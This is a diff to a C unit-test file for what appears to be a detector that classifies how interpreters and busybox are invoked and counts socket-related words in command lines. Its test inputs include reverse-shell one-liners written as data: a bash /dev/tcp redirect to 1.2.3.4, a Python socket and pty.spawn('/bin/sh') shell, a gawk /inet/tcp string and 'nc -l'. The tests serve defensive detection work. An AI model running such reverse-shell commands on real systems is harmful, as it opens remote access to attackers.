@@ -211,6 +211,8 @@ static void ways_to_run(void **state)
 	assert_int_equal(RUN("/usr/bin/php8.2", "php\0-r\0x").way, WAY_INLINE);
 	assert_int_equal(RUN("/usr/bin/gawk", "gawk\0BEGIN{s=\"/inet/tcp/0/x/1\"}").way,
 	                 WAY_INLINE);
+	assert_int_equal(RUN("/usr/bin/python3.11", "gunicorn: master [app]").way, WAY_SCRIPT);
+	assert_int_equal(RUN("/usr/bin/python3.11", "python3").way, WAY_BARE);
 	assert_true(RUN("/bin/busybox", "busybox\0sh").shell);
 	assert_true(RUN("/bin/busybox", "nc\0-l").netcat);
 	assert_false(RUN("/bin/busybox", "syslogd").shell);
@@ -223,11 +225,13 @@ static void words_of_sockets(void **state)
 
 	assert_int_equal(program_socket_words("print(1)", words, sizeof(words)), 0);
 	assert_int_equal(
-	    program_socket_words("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", words, sizeof(words)), 2);
+	    program_socket_words("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", words, sizeof(words)), 3);
 	assert_true(program_socket_words("import socket,pty;s=socket.socket();s.connect(x);"
 	                                 "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
 	                                 words, sizeof(words)) >= 3);
 	assert_true(memchr(words, 0, sizeof(words)));
+	assert_int_equal(
+	    program_socket_words("(echo >/dev/tcp/localhost/80) 2>&1", words, sizeof(words)), 1);
 }
 
 /* --- a process that the list does not have --- */
